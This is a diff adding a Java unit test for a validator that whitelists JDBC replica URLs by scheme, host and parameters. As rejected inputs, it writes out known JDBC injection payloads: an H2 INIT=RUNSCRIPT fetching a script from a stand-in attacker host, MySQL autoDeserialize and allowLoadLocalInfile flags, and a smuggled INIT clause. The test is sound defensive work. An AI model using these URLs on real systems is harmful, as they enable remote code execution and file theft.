@@ -0,0 +1,44 @@
+package com.boonya.game.datasource;
+
+import org.junit.jupiter.api.Test;
+
+import java.util.List;
+
+import static org.junit.jupiter.api.Assertions.*;
+
+/**
+ * 运行时注册从库的URL白名单
+ */
+class ReplicaUrlPolicyTest {
+
+    private final ReplicaUrlPolicy policy = new ReplicaUrlPolicy(List.of("mysql"), List.of("slave3", "*.db.internal"));
+
+    @Test
+    void acceptsAllowedSchemeHostAndParameters() {
+        policy.validate("jdbc:mysql://slave3:3306/slave_db");
+        policy.validate("jdbc:mysql://replica-1.db.internal/slave_db?useUnicode=true&serverTimezone=Asia/Shanghai");
+    }
+
+    @Test
+    void rejectsOtherSchemesHostsAndParameters() {
+        // H2在应用内执行初始化脚本
+        assertThrows(IllegalArgumentException.class,
+                () -> policy.validate("jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://attacker/x.sql'"));
+        assertThrows(IllegalArgumentException.class, () -> policy.validate("jdbc:postgresql://slave3/slave_db"));
+        assertThrows(IllegalArgumentException.class, () -> policy.validate("jdbc:mysql://attacker:3306/slave_db"));
+        assertThrows(IllegalArgumentException.class, () -> policy.validate("jdbc:mysql://db.internal.attacker/x"));
+        assertThrows(IllegalArgumentException.class,
+                () -> policy.validate("jdbc:mysql://slave3/slave_db?autoDeserialize=true"));
+        assertThrows(IllegalArgumentException.class,
+                () -> policy.validate("jdbc:mysql://slave3/slave_db?allowLoadLocalInfile=true"));
+        assertThrows(IllegalArgumentException.class,
+                () -> policy.validate("jdbc:mysql://slave3/slave_db?useSSL=false;INIT=x"));
+        assertThrows(IllegalArgumentException.class, () -> policy.validate(null));
+    }
+
+    @Test
+    void emptyHostListRejectsEverything() {
+        ReplicaUrlPolicy closed = new ReplicaUrlPolicy(List.of("mysql"), List.of());
+        assertThrows(IllegalArgumentException.class, () -> closed.validate("jdbc:mysql://slave3:3306/slave_db"));
+    }
+}